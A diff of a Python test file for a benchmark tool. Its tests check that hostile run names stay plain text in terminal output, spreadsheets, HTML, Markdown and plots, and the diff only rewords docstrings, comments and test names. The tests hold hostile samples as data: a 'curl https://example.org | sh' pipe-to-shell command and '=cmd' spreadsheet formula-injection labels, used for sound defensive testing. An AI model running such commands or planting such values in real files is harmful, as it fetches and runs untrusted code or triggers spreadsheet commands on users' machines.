@@ -1,4 +1,4 @@
-"""Names in a run are text: on the terminal, in tables, LaTeX, Markdown, figures and the page."""
+"""Names in a run stay text on the terminal, in tables, LaTeX, Markdown, figures, the page."""
 
 from __future__ import annotations
 
@@ -24,7 +24,7 @@ from distillation_bench.bench.storage.formats.csv_files import spreadsheet_safe
 from distillation_bench.bench.storage.run_folder import Run
 
 
-def test_names_steer_nothing_and_lead_nowhere(hostile: Site) -> None:
+def test_names_send_no_control_characters_and_lead_to_no_file(hostile: Site) -> None:
     hostile.cache.mkdir()
     first = next(iter(Run(hostile.run).manifest()["cells"]))
     for line in READ.values():
@@ -34,13 +34,13 @@ def test_names_steer_nothing_and_lead_nowhere(hostile: Site) -> None:
         assert path.name.isprintable() and len(os.fsencode(path.name)) <= 255
     curves = {path.parts[-4:] for path in (hostile.out / "curves").rglob("events*")}
     assert len(curves) == len(NAMES), "each of its own folder"
-    # A stranger's command is not offered.
+    # The command of an untrusted run is not offered.
     output = hostile("why", "run", first).stdout
     assert "unknown how" in output and "curl https://example.org | sh" in output
     assert f"--results {hostile.run.name}" not in output
 
 
-def test_rows_are_what_was_written_whatever_the_names(hostile: Site) -> None:
+def test_rows_are_read_as_written_whatever_the_names(hostile: Site) -> None:
     run = Run(hostile.run)
     cells = run.manifest()["cells"].values()
     planned = {(cell["dataset"], cell["label"], cell["seed"]) for cell in cells}
@@ -57,7 +57,7 @@ def test_rows_are_what_was_written_whatever_the_names(hostile: Site) -> None:
             shown <= {spreadsheet_safe(dataset) for dataset, _, _ in planned}
             and None not in rows[0]
         )
-        # What people open runs no formula; what is read again is as it was.
+        # Tables for spreadsheets run no formula; the run's own tables are unchanged.
         values = [value for row in rows for value in row.values()]
         assert not [v for v in values if v.startswith("=")] and any("=cmd" in v for v in values)
     assert "=cmd" in {label[:4] for _, label, _ in planned}
@@ -66,7 +66,7 @@ def test_rows_are_what_was_written_whatever_the_names(hostile: Site) -> None:
 @pytest.mark.parametrize(
     "line", ["export run --out -", "table run --csv -", "compare run --json -"]
 )
-def test_data_on_a_terminal_steers_nothing(
+def test_data_on_a_terminal_has_no_control_characters(
     hostile: Site, monkeypatch: pytest.MonkeyPatch, line: str
 ) -> None:
     piped = hostile(*line.split(), data=True).stdout
@@ -77,7 +77,7 @@ def test_data_on_a_terminal_steers_nothing(
 
 
 class Elements(html.parser.HTMLParser):
-    """What a page is made of, less its text."""
+    """The elements of a page without its text."""
 
     def __init__(self, page: str) -> None:
         super().__init__()
@@ -97,7 +97,7 @@ def test_names_are_text_on_the_page(hostile: Site) -> None:
     for run in ("run", "harmless"):
         assert hostile("report", run, "--no-figures", "--out", "out/page.html").returncode == 0
         text = (hostile.out / "page.html").read_text(encoding="utf-8")
-        # Where names may be broken, they are: one more element a comma.
+        # Names may be broken after a comma, which adds an element.
         pages.append(Elements(text.replace("<wbr>", "")).found)
     assert pages[0] == pages[1]
 
@@ -134,7 +134,7 @@ def test_names_are_text_in_markdown(hostile: Site) -> None:
         assert not re.search(r"(?<!\\)<[a-z/]|(?<!\\)\]\(", text)
 
 
-def test_names_are_drawn(hostile: Site) -> None:
+def test_names_are_drawn_as_text(hostile: Site) -> None:
     done = hostile(
         "plot", "run", "-d", NAMES[0], "-f", "training", "--format", "svg", "--out", "out"
     )
